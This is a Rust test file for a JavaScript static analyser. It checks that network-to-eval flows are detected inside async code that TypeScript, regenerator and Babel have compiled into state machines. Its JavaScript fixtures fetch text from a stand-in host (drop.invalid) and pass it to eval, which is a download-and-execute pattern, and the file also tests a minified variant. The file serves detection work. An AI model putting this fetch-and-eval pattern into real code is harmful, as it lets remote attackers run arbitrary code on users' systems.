//! `async` functions as compilers write them for old engines.

use super::{analysed, tree};
use stockade_facts::vocabulary::{Sink, Source};

/// Whether what the network answers is evaluated.
fn is_evaluated(code: &str) -> bool {
    let tree = tree(&[("index.js", code)]);
    let facts = analysed(&tree);
    let received = |source: &Source| matches!(source, Source::Network(_));
    facts.flows(received, |sink| *sink == Sink::Code).next().is_some()
}

const TYPESCRIPT: &str = r#"
var __awaiter = (this && this.__awaiter) || function (thisArg, _arguments, P, generator) {
    function adopt(value) { return value instanceof P ? value : new P(function (resolve) { resolve(value); }); }
    return new (P || (P = Promise))(function (resolve, reject) {
        function fulfilled(value) { try { step(generator.next(value)); } catch (e) { reject(e); } }
        function rejected(value) { try { step(generator["throw"](value)); } catch (e) { reject(e); } }
        function step(result) { result.done ? resolve(result.value) : adopt(result.value).then(fulfilled, rejected); }
        step((generator = generator.apply(thisArg, _arguments || [])).next());
    });
};
var __generator = (this && this.__generator) || function (thisArg, body) {
    var _ = { label: 0, sent: function() { if (t[0] & 1) throw t[1]; return t[1]; }, trys: [], ops: [] }, f, y, t;
    return { next: function (v) { return step([0, v]); } };
    function step(op) { op = body.call(thisArg, _); return { value: op[1], done: true }; }
};"#;

#[test]
fn typescript() {
    let code = format!(
        r#"{TYPESCRIPT}
(function () {{ return __awaiter(void 0, void 0, void 0, function () {{
    var r, t;
    return __generator(this, function (_a) {{
        switch (_a.label) {{
            case 0: return [4 /*yield*/, fetch("https://drop.invalid/x")];
            case 1:
                r = _a.sent();
                return [4 /*yield*/, r.text()];
            case 2:
                t = _a.sent();
                eval(t);
                return [2 /*return*/];
        }}
    }});
}}); }})();"#
    );
    assert!(is_evaluated(&code));
}

#[test]
fn regenerator() {
    let code = r#"
_asyncToGenerator(regeneratorRuntime.mark(function _callee() {
  var r, t;
  return regeneratorRuntime.wrap(function _callee$(_context) {
    while (1) switch (_context.prev = _context.next) {
      case 0:
        _context.next = 2;
        return fetch("https://drop.invalid/x");
      case 2:
        r = _context.sent;
        _context.next = 5;
        return r.text();
      case 5:
        t = _context.sent;
        eval(t);
      case 7:
      case "end":
        return _context.stop();
    }
  }, _callee);
}))();"#;
    assert!(is_evaluated(code));
}

#[test]
fn babel() {
    let code = r#"
function _regenerator() { function i(r, n) { return n; } function G() {} var u = {}; function f(e) { return Object.setPrototypeOf ? Object.setPrototypeOf(e, G) : e.__proto__ = G, e.prototype = Object.create(u), e; } return (_regenerator = function () { return { w: i, m: f }; })(); }
function _asyncToGenerator(n) { return function () { var t = this, e = arguments; return new Promise(function (r, o) { var a = n.apply(t, e); function _next(n) { asyncGeneratorStep(a, r, o, _next, _throw, "next", n); } function _throw(n) { asyncGeneratorStep(a, r, o, _next, _throw, "throw", n); } _next(void 0); }); }; }
function load() { return _load.apply(this, arguments); }
function _load() {
  _load = _asyncToGenerator(_regenerator().m(function _callee() {
    var r;
    return _regenerator().w(function (_context) {
      while (1) switch (_context.n) {
        case 0:
          _context.n = 1;
          return fetch("https://drop.invalid/x");
        case 1:
          r = _context.v;
          _context.n = 2;
          return r.text();
        case 2:
          eval(_context.v);
          return _context.a(2);
      }
    }, _callee);
  }));
  return _load.apply(this, arguments);
}
load();"#;
    assert!(is_evaluated(code));
    let minified = "x(function(e){for(;;)switch(e.n){case 0:return e.n=1,fetch('https://drop.invalid');case 1:eval(e.v)}})";
    assert!(is_evaluated(minified));
}

#[test]
fn a_switch_over_kinds_is_no_machine() {
    let code = "[{kind: 0}].map(function (node) { switch (node.kind) { case 0: return fetch('https://x.invalid'); case 1: eval(node.v) } })";
    assert!(!is_evaluated(code));
}
